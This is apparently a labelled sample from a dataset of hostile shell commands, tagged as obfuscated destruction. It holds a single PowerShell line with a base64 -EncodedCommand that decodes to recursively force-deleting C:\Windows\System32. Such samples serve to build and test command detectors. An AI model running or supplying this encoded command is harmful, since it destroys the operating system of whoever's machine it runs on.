# description: Runs a UTF-16LE base64 -EncodedCommand that deletes System32.
# family: destruction
# obfuscated: yes
powershell.exe -NoProfile -NonInteractive -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBQAGEAdABoACAAQwA6AFwAVwBpAG4AZABvAHcAcwBcAFMAeQBzAHQAZQBtADMAMgAgAC0AUgBlAGMAdQByAHMAZQAgAC0ARgBvAHIAYwBlAA==
